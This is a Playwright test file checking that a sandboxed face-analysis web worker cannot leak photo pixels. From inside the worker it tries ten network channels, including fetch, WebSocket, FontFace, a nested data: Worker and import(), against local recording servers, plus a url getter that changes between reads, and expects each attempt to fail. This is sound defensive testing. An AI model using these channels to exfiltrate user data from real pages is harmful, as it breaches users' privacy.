/**
 * The face worker holds the photo's pixels. On a host that ignores `_headers` three things keep
 * them in (docs/security.md):
 *
 * 1. The worker runs in the face engine's sandbox (src/lib/face-engine/sandbox/): an iframe of an
 *    opaque origin whose policy allows no address at all, which the worker keeps. Code in the
 *    worker cannot fetch, import or connect anywhere, the site's own host included.
 * 2. The page hands the worker only code and model files whose SHA-256 the build wrote.
 * 3. The worker's own lockdown (src/lib/face-engine/worker/lock-down-face-worker.ts) closes every
 *    network API a script could call.
 *
 * Here the built site is served by a plain static server that sends no security headers and logs
 * every request; after a full analysis, code run inside the worker tries every way out, to the
 * site's own host and to a second origin, which records whatever reaches it.
 */
import { readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "@playwright/test";
import { NETWORK_CLOSED_MESSAGE } from "../../../src/lib/face-engine/worker-network-lockdown";
import { startEngineServer, type EngineServer } from "../../../tools/engine-harness/engine-runner";
import { makePhoto, ONE_FACE } from "../../../tools/engine-harness/face-photos";
import { startRecordingServer, type RecordingServer } from "../../support/recording-server";
import {
  faceWorker,
  waitForIsland,
  watchConsoleErrors,
  MODEL_NOTE,
  choosePhotoAndGender,
  REAL_ENGINE_WAIT_MS,
} from "../../support/site-pages";

/** The build playwright.config.ts serves. */
const BUILD = join(import.meta.dirname, "../../..", process.env["SITE_OUT_DIR"] ?? "dist");

// A first visit: no service worker between the page and the network.
test.use({ serviceWorkers: "block" });

let site: EngineServer;
let elsewhere: RecordingServer;

test.beforeAll(async () => {
  // The engine harness's static server, mounted on the site's build: files and content types only.
  site = await startEngineServer({ "/": BUILD });
  elsewhere = await startRecordingServer();
});

test.afterAll(async () => {
  await site.close();
  await elsewhere.close();
});

/** Every way out a script in the worker could try, to `target`, each marked `pixels` in its address. */
type Outcomes = Record<string, string>;

test("served without headers, the face worker reaches no address, the site's own included, and still answers", async ({
  page,
}) => {
  const errors = watchConsoleErrors(page);
  // The recording server does record what reaches it.
  await fetch(`${elsewhere.origin}/control`);
  expect(elsewhere.requests).toEqual(["GET /control"]);
  elsewhere.requests.length = 0;

  const response = await page.goto(`${site.origin}/`);
  expect(response?.headers()["content-security-policy"]).toBeUndefined();
  await waitForIsland(page, 'button:has-text("Upload Your Selfie Now")');
  await choosePhotoAndGender(page, await makePhoto(page, "lockdown.jpg", "sample1.jpg", ONE_FACE));
  await page.getByRole("button", { name: "Upload Your Selfie Now" }).click();
  await expect(page.getByRole("dialog", { name: "Analyzing your photo" })).toBeVisible();
  const preview = page.getByRole("dialog", { name: /facial landmarks found/ });
  await expect(preview.getByRole("heading")).toHaveText("68 facial landmarks found", { timeout: REAL_ENGINE_WAIT_MS });
  await expect(page.getByTestId("classifier-used")).toContainText(MODEL_NOTE, { timeout: REAL_ENGINE_WAIT_MS });

  const worker = await faceWorker(page);
  const logged = site.requests.length;

  // Each way out, tried from inside the worker as a script running there would, to both hosts.
  const attempts = await worker.evaluate(
    async (targets) => {
      const scope = self as unknown as {
        importScripts: (url: string) => void;
        caches: CacheStorage | undefined;
        FontFace: new (family: string, source: string) => { load: () => Promise<unknown> };
      };
      const settled = <T extends { onerror: unknown }>(source: T, opened: "onopen" | "onload") =>
        new Promise<void>((resolve, reject) => {
          Object.assign(source, { [opened]: () => resolve(), onerror: () => reject(new Error("connection failed")) });
        });
      const all: Record<string, Record<string, string>> = {};
      for (const [name, target] of Object.entries(targets)) {
        const ways: Record<string, () => unknown> = {
          fetch: () => fetch(`${target}/fetch?pixels=AAAA`),
          "fetch POST": () => fetch(`${target}/fetch`, { method: "POST", body: "pixels" }),
          XMLHttpRequest: () => {
            const request = new XMLHttpRequest();
            request.open("GET", `${target}/xhr?pixels=AAAA`);
            const done = settled(request, "onload");
            request.send();
            return done;
          },
          WebSocket: () => settled(new WebSocket(`${target.replace("http", "ws")}/socket?pixels=AAAA`), "onopen"),
          EventSource: () => settled(new EventSource(`${target}/events?pixels=AAAA`), "onopen"),
          importScripts: () => scope.importScripts(`${target}/script.js?pixels=AAAA`),
          caches: async () => {
            if (!scope.caches) throw new Error("no caches");
            await (await scope.caches.open("leak")).add(`${target}/cache?pixels=AAAA`);
          },
          FontFace: () => new scope.FontFace("leak", `url(${target}/font?pixels=AAAA)`).load(),
          Worker: () => new Worker(`data:text/javascript,fetch("${target}/nested?pixels=AAAA")`),
          // No script can take import() away: the sandbox's policy, which the worker keeps, refuses
          // every address, the site's own script folder with a query included.
          "import()": () => import(/* @vite-ignore */ `${target}/_astro/module.js?pixels=AAAA`),
        };
        const outcomes: Record<string, string> = {};
        for (const [way, attempt] of Object.entries(ways)) {
          try {
            await attempt();
            outcomes[way] = "went through";
          } catch (error) {
            outcomes[way] = `stopped: ${error instanceof Error ? error.message : String(error)}`;
          }
        }
        all[name] = outcomes;
      }
      // Give anything started (a nested worker, a font) time to reach the network.
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return all;
    },
    { site: site.origin, elsewhere: elsewhere.origin },
  );

  const stopped = (target: string): Outcomes => ({
    fetch: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    "fetch POST": `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    XMLHttpRequest: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    WebSocket: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    EventSource: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    importScripts: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    caches: "stopped: no caches",
    FontFace: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    Worker: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    "import()": `stopped: Failed to fetch dynamically imported module: ${target}/_astro/module.js?pixels=AAAA`,
  });
  // Neither host heard anything: not the second origin, and not the site's own host.
  expect({ site: site.requests.slice(logged), elsewhere: elsewhere.requests }).toEqual({ site: [], elsewhere: [] });
  expect(attempts).toEqual({ site: stopped(site.origin), elsewhere: stopped(elsewhere.origin) });
  // The worker runs in the sandbox: an opaque origin, started from a blob: address made there.
  expect(worker.url()).toMatch(/^blob:null\//);
  await expect(page.locator("iframe[sandbox]")).toHaveAttribute("sandbox", "allow-scripts");
  // What tests/engines/run.ts reads in the other engines: the frame says its worker started, and
  // the page never started the fallback.
  await expect(page.locator("iframe[sandbox]")).toHaveAttribute("data-worker", "started");
  await expect(page.locator("html")).not.toHaveAttribute("data-face-worker-fallback");

  // A model file the worker has had once is not handed over again (nor fetched again for it).
  const landmarks = readdirSync(join(BUILD, "_astro")).find((name) =>
    /^face_landmark_68_model-[\w-]+\.bin$/.test(name),
  );
  const again = await worker.evaluate(
    (path) =>
      fetch(path).then(
        () => "answered",
        (error: unknown) => String(error),
      ),
    `/_astro/${landmarks}`,
  );
  expect(again).toMatch(/asked-again/);
  expect(site.requests.slice(logged)).toEqual([]);

  // An address that answers a model file when checked and another path of the site when read again:
  // what the worker gets is the model file (the page hands over only files the build listed), for a
  // file this worker has not asked for yet.
  const asked = site.requests.join("\n");
  const modelFile = readdirSync(join(BUILD, "_astro")).find(
    (name) => /^face-(identity|appearance)-[\w-]+\.bin$/.test(name) && !asked.includes(name),
  );
  expect(modelFile, "a model file the analysis did not fetch").toBeDefined();
  const fetched = await worker.evaluate(
    async ({ path, site }) => {
      let reads = 0;
      const shifting = {
        get url() {
          reads += 1;
          return reads === 1 ? path : `${site}/x?d=landmarks`;
        },
      };
      const response = await fetch(shifting as unknown as Request);
      return { status: response.status, bytes: (await response.arrayBuffer()).byteLength };
    },
    { path: `/_astro/${modelFile}`, site: site.origin },
  );
  expect(fetched).toEqual({ status: 200, bytes: statSync(join(BUILD, "_astro", modelFile ?? "")).size });
  // The page fetched that file for the worker; nothing else reached the host.
  expect(site.requests.slice(logged)).toEqual([`GET /_astro/${modelFile}`]);
  expect(errors).toEqual([]);
});
